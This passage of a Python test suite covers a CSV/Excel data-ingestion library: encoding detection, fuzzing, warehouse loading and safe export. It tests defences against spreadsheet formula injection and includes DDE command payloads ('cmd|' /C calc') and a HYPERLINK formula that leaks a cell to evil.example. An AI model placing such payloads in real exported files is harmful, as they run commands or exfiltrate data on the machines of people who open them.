    hit = q[q["rule"].str.match(rule) & q["reason"].str.contains(reason, regex=True)]
    assert len(hit) >= 1, q[["row", "rule", "reason"]].to_string()
    assert hit["row"].min() >= 6 and hit["source"].eq("orders.csv").all()
    assert hit["raw"].map(json.loads).map(lambda r: "Order No" in r).all()


FORMULA_CELLS = [
    # (id, column, the text of the cell)
    ("hyperlink", "SKU", '=HYPERLINK("http://x.example","click")'),
    ("at_sum", "Customer ID", "@SUM(A1:A9)"),
    ("plus_cmd", "SKU", "+cmd|' /C calc'!A0"),
    ("minus_cmd", "SKU", "-2+3+cmd|' /C calc'!A0"),
    ("tab_equals", "SKU", "\t=1+1"),
]


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize(("column", "cell"), [pytest.param(*c[1:], id=c[0]) for c in FORMULA_CELLS])
def test_formula_text_is_loaded_as_text_and_neutralised_on_every_export(tmp_path, column, cell):
    # A cell that a spreadsheet would run is data like any other on import (a phone
    # number, a note); the danger is only in a spreadsheet, so every export quotes it.
    row = bad(**{column.replace(" ", "_"): _csv_field(cell)})
    bad_amount = bad(**{column.replace(" ", "_"): _csv_field(cell), "Amount": "=1+1"})
    path = write(tmp_path, orders_csv(row, bad_amount.replace("O9,", "O8,", 1)))
    mt = load(path)
    contract_column = {"SKU": "product_id", "Customer ID": "customer_id"}[column]
    assert mt.data.loc[6, contract_column] == cell  # accepted, verbatim
    assert set(mt.quarantine["row"]) == {7}  # only the unparseable amount
    assert set(mt.quarantine["rule"]) == {"number"}
    db = tmp_path / "crm.duckdb"
    res = io.ingest(path, "simulated_world_orders", warehouse=db)
    assert res.lineage["rows_accepted"] == 5 and res.lineage["rows_quarantined"] == 1
    with connect(db) as con:
        stored = con.sql("select * from transactions order by row").to_arrow_table().to_pandas()
        quarantine = con.sql("select * from quarantine").to_arrow_table().to_pandas()
    assert stored[contract_column].iloc[-1] == cell  # the warehouse keeps the text
    for name, table in {"data": stored, "quarantine": quarantine}.items():
        csv_back = io.read_table(io.write_csv(table, tmp_path / f"{name}.csv"))
        xlsx_back = io.read_table(io.write_excel(table, tmp_path / f"{name}.xlsx"))
        text = [c for c in table.columns if not pd.api.types.is_numeric_dtype(table[c])]
        for back in (csv_back, xlsx_back):  # numbers (-20.0) stay numbers
            cells = back[text].to_numpy().ravel().tolist()
            assert not [c for c in cells if c.startswith(io.FORMULA_TRIGGERS)], name
            if name == "data":
                assert "'" + cell in back[contract_column].tolist()
            else:
                assert "'=1+1" in back["value"].tolist()


def test_phone_numbers_are_not_formulas(tmp_path):
    header = (
        "Customer ID,Name,Email,Mobile,Signup Date,Region,Source,Gender,Birth Year,Marketing Opt-in"
    )
    phones = ["+86 (138) 1234-5678", "+1 (555) 010-9999", "+86-138-1234-5678", "-", "(021) 555"]
    lines = [
        f"C{i},Wei,w{i}@example.com,{p},2024-03-05 14:22:01,north,direct,male,1990,Y"
        for i, p in enumerate(phones)
    ]
    mt = load(
        write(tmp_path, "\n".join([header, *lines]) + "\n", name="c.csv"),
        "simulated_world_customers",
    )
    assert mt.quarantine.empty, mt.quarantine[["row", "rule", "reason"]].to_string()
    assert mt.data["phone"].tolist() == phones


def test_header_only_is_reported(tmp_path):
    path = write(tmp_path, HEADER + "\n")
    with pytest.warns(io.EmptyTableWarning, match=r"orders\.csv: header only"):
        mt = load(path)
    assert mt.reconciliation.rows_in == 0 and mt.data.empty


def test_extra_column_is_reported(tmp_path):
    path = write(tmp_path, "\n".join([HEADER + ",Note", *(r + ",n" for r in GOOD_ROWS)]))
    mt = load(path)
    assert mt.extra_columns == ["Note"] and len(mt.data) == 4
    assert "Note" in mt.summary()["extra_columns"].iloc[0]


def test_gbk_file_detected(tmp_path):
    mt = load(_gbk(tmp_path))
    assert mt.data["product_id"].iloc[-1] == "张"


# ------------------------------------------------------------------------ fuzzing

_CSV_ALPHABET = st.sampled_from(list(',;|\t"\n\r =@+-.¥,0123456789abcAO张ÿ\x00'))


def _fuzz(data: bytes, suffix: str = ".csv") -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"fuzz{suffix}"
        path.write_bytes(data)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", io.ReadWarning)
            try:
                load(path)
            except io.IngestError:
                pass


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=300))
def test_fuzz_random_bytes(data):
    _fuzz(data)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(_CSV_ALPHABET, max_size=40), max_size=6))
def test_fuzz_rows_under_header(rows):
    _fuzz(("\n".join([HEADER, *GOOD_ROWS, *rows]) + "\n").encode("utf-8"))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=200), st.sampled_from([".xlsx", ".parquet", ".jsonl"]))
def test_fuzz_other_formats(data, suffix):
    _fuzz(data, suffix)


def test_no_row_lost_under_random_cell_damage(tmp_path):
    rng = np.random.default_rng(0)
    lines = [HEADER] + [
        f"O{i},1,C{i},2024-03-05 14:22:01,{rng.uniform(1, 99):.2f},CNY,1,P{i},home,web,"
        for i in range(200)
    ]
    junk = ["", "x", "2024-13-45", "=1+1", "-5", "1e9", "¥", "NaN"]
    for i in rng.choice(np.arange(1, 201), size=60, replace=False):
        cells = lines[i].split(",")
        cells[int(rng.integers(0, 10))] = junk[int(rng.integers(0, len(junk)))]
        lines[i] = ",".join(cells)
    mt = load(write(tmp_path, "\n".join(lines) + "\n"))
    assert len(mt.data) + mt.quarantine["row"].nunique() == 200
    assert 0 < mt.quarantine["row"].nunique() <= 60


# ---------------------------------------------------------------- safe export

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "note": ATTACKS + ["plain text"],
            "amount": [-12.5, 3.0, -0.01, 4.0, 5.0, 6.0, -7.25],
            "qty": [-1, 2, 3, 4, 5, 6, 7],
        }
    )


def test_neutralize_formulas_quotes_text_and_keeps_numbers():
    df = _export_table()
    out = io.neutralize_formulas(df)
    assert out["note"].tolist() == ["'" + a for a in ATTACKS] + ["plain text"]
    assert out["amount"].tolist() == df["amount"].tolist()  # negative numbers stay numbers
    assert out["amount"].dtype == "float64" and out["qty"].dtype == "int64"
    assert df["note"].iloc[0].startswith("=")  # the input is not modified
    assert io.neutralize_formulas(out).equals(out)  # idempotent
    header = io.neutralize_formulas(pd.DataFrame({"=cmd": [1]}))
    assert list(header.columns) == ["'=cmd"]


def test_write_csv_round_trip(tmp_path):
    path = io.write_csv(_export_table(), tmp_path / "out" / "table.csv")
    back = io.read_table(path)
    assert back["note"].tolist() == ["'" + a for a in ATTACKS] + ["plain text"]
    assert not back["note"].str.match(r"^[=+\-@\t\r]").any()
    assert pd.to_numeric(back["amount"]).tolist() == [-12.5, 3.0, -0.01, 4.0, 5.0, 6.0, -7.25]
    assert pd.to_numeric(back["qty"]).tolist()[0] == -1
    assert io.detect_encoding(path) == "utf-8-sig"  # Excel shows Chinese text with the BOM


def test_write_excel_stores_text_not_formulas(tmp_path):
    import openpyxl

    df = _export_table().assign(when=pd.Timestamp("2024-03-05 14:22", tz="Asia/Shanghai"))
    path = io.write_excel(df, tmp_path / "table.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)  # text, never "f" (formula)
    assert cells[0].value == "'" + ATTACKS[0]
    amounts = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert amounts[0] == -12.5 and isinstance(amounts[0], float)
    back = io.read_table(path)
    assert back["note"].tolist()[:3] == ["'" + a for a in ATTACKS[:3]]
    assert back["when"].iloc[0] == "2024-03-05T14:22:00+08:00"


def test_write_excel_names_an_illegal_character(tmp_path):
    df = pd.DataFrame({"note": ["ok", "bell\x07"]}, index=[10, 11])
    with pytest.raises(io.ExportError, match=r"column 'note', row 11: .*control character"):
        io.write_excel(df, tmp_path / "bad.xlsx")


def test_write_csv_names_an_unencodable_value(tmp_path):
    with pytest.raises(io.ExportError, match=r"bad\.csv: a value cannot be written in ascii"):
        io.write_csv(pd.DataFrame({"name": ["张伟"]}), tmp_path / "bad.csv", encoding="ascii")


# ------------------------------------------------------------ detect_encoding


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("客户,地区\n张伟,华北\n李娜,华东\n".encode("gbk"), "gb18030"),
        ("Customer,Region\nAnn,north\n".encode("utf-8-sig"), "utf-8-sig"),
        ("客户,地区\n张伟,华北\n".encode(), "utf-8"),
        ("Customer,Region\nAnn,north\n".encode("utf-16"), "utf-16"),
    ],
)
def test_detect_encoding_of_bytes_and_files(tmp_path, data, expected):
    assert io.detect_encoding(data) == expected
    path = write(tmp_path, data, "export.csv")
    assert io.detect_encoding(path) == expected
    assert io.detect_encoding(str(path)) == expected


def test_detect_encoding_of_the_world_exports(world_exports):
    _, paths, _ = world_exports
    assert io.detect_encoding(paths["customers_export"]) == "gb18030"  # written as GBK
    assert io.detect_encoding(paths["orders_export"]) == "utf-8-sig"


@pytest.mark.parametrize(
    ("data", "pattern"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"PK\x03\x04\x00\x00binary", "NUL bytes: binary data"),
    ],
)
def test_detect_encoding_errors(data, pattern):
    with pytest.raises(io.ReadError, match=pattern):
        io.detect_encoding(data)


def test_detect_encoding_missing_file(tmp_path):
    with pytest.raises(io.ReadError, match=r"nope\.csv: file not found"):
        io.detect_encoding(tmp_path / "nope.csv")


# Western exports saved by Excel on a Western Windows (cp1252), a Traditional Chinese
# one (Big5, code page 950), and their names as the file holds them.
WESTERN = [
    ("Customer ID,Name,City\nC1,Anna Müller,Berlin\n", ["Anna Müller"]),
    (
        "Customer ID,Name,City\nC1,Anna Müller,Berlin\nC2,José Núñez,Málaga\n"
        "C3,François Lefèvre,Créteil\nC4,Jürgen Weiß,Köln\n",
        ["Anna Müller", "José Núñez", "François Lefèvre", "Jürgen Weiß"],
    ),
    ("Customer ID,Name,Note\nC1,Zoë,“VIP” €120\n", ["Zoë"]),
]


@pytest.mark.parametrize(("text", "names"), WESTERN)
def test_western_exports_are_read_as_cp1252(tmp_path, text, names):
    path = write(tmp_path, text, encoding="cp1252")
    assert io.detect_encoding(path) == "cp1252"
    assert io.read_table(path)["Name"].tolist() == names


def test_big5_export_is_read_as_big5(tmp_path):
    names = ["張偉", "李娜", "陳靜", "王秀英", "劉洋", "黃磊", "周傑", "吳芳"]
    regions = ["華北", "華東", "臺北", "高雄", "新竹", "臺中", "華南", "華中"]
    text = "Customer ID,Name,Region\n" + "".join(
        f"C{i},{n},{r}\n" for i, (n, r) in enumerate(zip(names, regions, strict=True))
    )
    path = write(tmp_path, text, encoding="big5")
    assert io.detect_encoding(path) == "cp950"  # Big5 as Windows writes it
    assert io.read_table(path)["Name"].tolist() == names


def test_stray_byte_in_a_utf8_file_names_line_and_byte(tmp_path):
    # Line 1 "Customer ID,Name,Region\n" is 24 bytes, lines 2 and 3 ("C1,张伟,华北\n") are
    # 3 + 6 + 1 + 6 + 1 = 17 bytes each (a Chinese character is 3 bytes in UTF-8), and
    # "C3,Bad" is 6: the stray byte 0xFF is at offset 24 + 17 + 17 + 6 = 64, on line 4.
    data = "Customer ID,Name,Region\nC1,张伟,华北\nC2,李娜,华东\n".encode() + b"C3,Bad\xff,x\n"
    path = write(tmp_path, data, name="customers.csv")
    pattern = r"customers\.csv: not valid UTF-8 text: line 4, byte offset 64 \(0xFF\)"
    with pytest.raises(io.ReadError, match=pattern):
        io.read_table(path)
    with pytest.raises(io.ReadError, match=pattern):
        io.detect_encoding(path)


def test_stray_byte_deep_in_a_large_utf8_file(tmp_path):
    head = b"Customer ID,Name,Region\n"
    # "C000000," is 8 bytes, "张伟,华北\n" 6 + 1 + 6 + 1: 22 bytes a row
    rows = "".join(f"C{i:06d},张伟,华北\n" for i in range(20_000)).encode()
    data = head + rows + b"C9,Caf\xe9,x\n"
    path = write(tmp_path, data, name="big.csv")
    # the byte after "C9,Caf", on line 1 + 20,000 + 1
    offset = 24 + 22 * 20_000 + 6
    with pytest.raises(io.ReadError, match=rf"line 20002, byte offset {offset} \(0xE9\)"):
        io.read_table(path)


def test_text_in_no_allowed_encoding_is_refused_not_guessed(tmp_path):
    # Japanese (Shift_JIS) and Russian (cp1251) exports are outside the encodings
    # read_table detects on its own: it asks for the encoding instead of showing mojibake.
    ja = (
        "Customer,Region\n山田太郎,東京\n鈴木花子,大阪\n佐藤健,名古屋\n高橋翔,福岡\n田中美咲,札幌\n"
    )
    ru = "id,name,city\n1,Иван Петров,Москва\n2,Анна Смирнова,Санкт-Петербург\n"
    for name, text, enc in (("ja.csv", ja, "shift_jis"), ("ru.csv", ru, "cp1251")):
        path = write(tmp_path, text, name=name, encoding=enc)
        with pytest.raises(
            io.ReadError,
            match=rf"{name[:2]}\.csv: cannot detect the text encoding.*line 2, byte offset "
            r"\d+ \(0x[0-9A-F]{2}\).*pass encoding=",
        ):
            io.read_table(path)
        expected = pd.read_csv(path, encoding=enc, dtype=str)  # the reader of pandas agrees
        assert io.read_table(path, encoding=enc).to_numpy().tolist() == expected.to_numpy().tolist()


def test_ambiguous_bytes_are_refused(tmp_path):
    # Two Big5 names that read as plausible GB18030 and cp1252 text as well.
    path = write(tmp_path, "id,name\n1,林雪\n2,周傑\n", name="tiny.csv", encoding="big5")
    with pytest.raises(io.ReadError, match=r"tiny\.csv: ambiguous text encoding.*pass encoding="):
        io.read_table(path)
    assert io.read_table(path, encoding="big5")["name"].tolist() == ["林雪", "周傑"]


SIMPLIFIED = "张伟李娜王秀英刘洋陈静杨帆赵敏黄磊周杰吴芳徐强孙丽马超朱琳胡军郭涛何平高峰林雪"
TRADITIONAL = "張偉李娜王秀英劉洋陳靜楊帆趙敏黃磊周傑吳芳徐強孫麗馬超朱琳胡軍郭濤何平高峰林雪"
LATIN = ["Anna Müller", "Jürgen Groß", "François Lefèvre", "José Núñez", "Zoë", "Ana Conceição"]


def _customers(kind: str, n: int, rng: np.random.Generator) -> str:
    lines = ["Customer ID,Name,Region,Email"]
    for i in range(n):
        if kind == "latin":
            name, region = str(rng.choice(LATIN)), str(rng.choice(["Köln", "Málaga", "Zürich"]))
        else:
            chars = SIMPLIFIED if kind == "gbk" else TRADITIONAL
            name = "".join(rng.choice(list(chars), size=2))
            region = "华北" if kind == "gbk" else "臺北"
        lines.append(f"C{i:05d},{name},{region},c{i}@example.com")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    ("kind", "encoding"), [("gbk", "gbk"), ("big5", "big5"), ("latin", "cp1252")]
)
def test_detection_is_right_or_refuses_never_wrong(kind, encoding):
    rng = np.random.default_rng(7)
    expected = {"gbk": "gb18030", "big5": "cp950", "latin": "cp1252"}[kind]
    for n in (1, 2, 3, 5, 20, 200):
        for _ in range(10):
            text = _customers(kind, n, rng)
            try:
                found = io.detect_encoding(text.encode(encoding))
            except io.ReadError as exc:  # a refusal is allowed on a short file only
                assert n <= 5 and "ambiguous text encoding" in str(exc), (n, text, exc)
                continue
            assert found == expected, (n, text)


# ------------------------------------------- warehouse of one world, read back by later steps


def test_read_loads_gives_back_what_the_mapping_gave(world_exports, tmp_path):
    _, paths, _ = world_exports
    files = {"customers": paths["customers_export"], "transactions": paths["orders_export"]}
    mappings = {"customers": "simulated_world_customers", "transactions": "simulated_world_orders"}
    db = io.warehouse_file(str(tmp_path / "wh" / "crm.duckdb"))
    assert io.read_loads(db, files, world="w1") is None  # no warehouse yet
    io.start_warehouse(db, world="w1", description="world one")
    assert io.warehouse_world(db) == "w1"
    assert io.read_loads(db, files, world="w1") is None  # nothing loaded yet
    for table, path in files.items():
        io.ingest(path, mappings[table], warehouse=db)
    got = io.read_loads(db, files, world="w1", mappings=mappings)
    for table, path in files.items():
        expected = io.apply_mapping(io.read_table(path), mappings[table], source=path.name)
        pd.testing.assert_frame_equal(got[table].data, expected.data)
        pd.testing.assert_frame_equal(got[table].quarantine, expected.quarantine)
        assert got[table].reconciliation == expected.reconciliation
    with connect(db) as con:  # row-level lineage beside the contract columns
        cols = [r[0] for r in con.execute("describe customers").fetchall()]
    assert cols == [*schemas.SCHEMAS["customers"].columns, *io.LOAD_COLUMNS]
    # a load made with another mapping does not count
    newer = dataclasses.replace(io.load_mapping("simulated_world_customers"), version="99")
    assert io.read_loads(db, files, world="w1", mappings={"customers": newer}) is None


def test_read_loads_refuses_another_world_and_start_warehouse_resets(world_exports, tmp_path):
    _, paths, _ = world_exports
    db = tmp_path / "crm.duckdb"
    io.start_warehouse(db, world="w1")
    io.ingest(paths["customers_export"], "simulated_world_customers", warehouse=db)
    with pytest.raises(io.WarehouseWorldError, match="holds the exports of world w1, not of"):
        io.read_loads(db, {"customers": paths["customers_export"]}, world="w2")
    io.start_warehouse(db, world="w2")  # a new delivery: nothing of w1 is left
    with connect(db) as con:
        assert [r[0] for r in con.execute("show tables").fetchall()] == [io.WORLD_TABLE]
    assert io.read_loads(db, {"customers": paths["customers_export"]}, world="w2") is None


def test_warehouse_file(tmp_path):
    temporary = io.warehouse_file("")
    assert temporary.name == "crm.duckdb" and temporary.parent.is_dir()
    assert temporary.parent != io.warehouse_file("").parent  # a new one each time
    assert io.warehouse_file(str(tmp_path / "x.duckdb")) == (tmp_path / "x.duckdb").resolve()
    with pytest.raises(io.IngestError, match="is a folder"):
        io.warehouse_file(str(tmp_path))


CSV_SHAPES = {
    "plain": "a,b,c\n1,2,3\n4,5,6\n",
    "no_final_newline": "a,b\n1,2\n3,4",
    "crlf_and_bom": "\ufeffa,b\r\n1,2\r\n3,4\r\n",
    "quoted_delimiters": 'a,b\n"1,234.50",x\n"",""\n"q",\n',
    "unicode_and_spaces": "名字, 地区 \n 张伟 ,华北\n李娜,\n",
    "blank_header_field": "a,,c\n1,2,3\n",
    "blank_lines": "a,b\n\n1,2\n  \n3,4\n\n",
    "blank_lines_alone": "a,b\n\n\n",
    "blank_lines_between_rows": "a,b\n1,2\n\n3,4\n",
    "blank_line_after_header": "a,b\n\n1,2\n3,4\n",
    "blank_lines_crlf": "a,b\r\n1,2\r\n\r\n3,4\r\n\r\n",
    "empty_fields_are_not_blank": "a,b\n,\n1,2\n",
    "leading_blank_line": "\na,b\n1,2\n",
    "embedded_newline": 'a,b\n"line\nbreak",2\n3,4\n',
    "escaped_quote": 'a,b\n"say ""hi""",2\n',
    "quote_inside_field": 'a,b\nab"c,2\n',
    "text_after_quote": 'a,b\n"ab" ,2\n',
    "short_and_long_rows": "a,b,c\n1,2\n1,2,3,4\n",
    "lone_carriage_return": "a,b\r1,2\r3,4\r",
    "one_column": "a\n1\n\n2\n",
    "odd_quotes": 'a,b\n"1,2\n',
}


@pytest.mark.parametrize("name", sorted(CSV_SHAPES))
def test_fast_csv_path_reads_like_the_csv_module(tmp_path, monkeypatch, name):
    path = write(tmp_path, CSV_SHAPES[name])

    def read():
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            try:
                return io.read_table(path), [str(w.message) for w in caught]
            except io.ReadError as exc:
                return str(exc), []

    fast = read()
    monkeypatch.setattr(io, "_read_csv_fast", lambda text, delimiter: None)
    exact = read()
    if isinstance(exact[0], str):
        assert fast == exact
    else:
        pd.testing.assert_frame_equal(fast[0], exact[0])
        assert fast[1] == exact[1]
        assert all(str(t) == "str" for t in fast[0].dtypes)


@pytest.mark.parametrize(
    ("text", "rows"),
    [
        # (file, its data rows by hand: line number -> fields); blank lines are no rows
        ("a,b\n1,2\n\n3,4\n", {2: ["1", "2"], 4: ["3", "4"]}),
        ("a,b\r\n\r\n1,2\r\n\r\n\r\n3,4\r\n", {3: ["1", "2"], 6: ["3", "4"]}),
        ("a,b\n,\n\n1,2\n\n", {2: ["", ""], 4: ["1", "2"]}),  # "," is a row of empties
    ],
)
def test_blank_lines_are_not_rows(tmp_path, text, rows):
    df = io.read_table(write(tmp_path, text))
    assert {r: list(v) for r, v in zip(df.index, df.to_numpy().tolist(), strict=True)} == rows


def test_blank_lines_alone_are_a_header_only_file(tmp_path):
    with pytest.warns(io.EmptyTableWarning, match="header only"):
        df = io.read_table(write(tmp_path, "a,b\n\n\n"))
    assert df.empty and list(df.columns) == ["a", "b"]


def test_fast_csv_path_is_taken_for_regular_files_only():
    assert io._read_csv_fast(CSV_SHAPES["quoted_delimiters"], ",") is not None
    for name in ("blank_lines_alone", "blank_lines_between_rows", "blank_lines_crlf"):
        assert io._read_csv_fast(CSV_SHAPES[name], ",") is not None, name  # empty lines skipped
    for name in ("blank_lines", "embedded_newline", "escaped_quote", "short_and_long_rows"):
        assert io._read_csv_fast(CSV_SHAPES[name], ",") is None, name
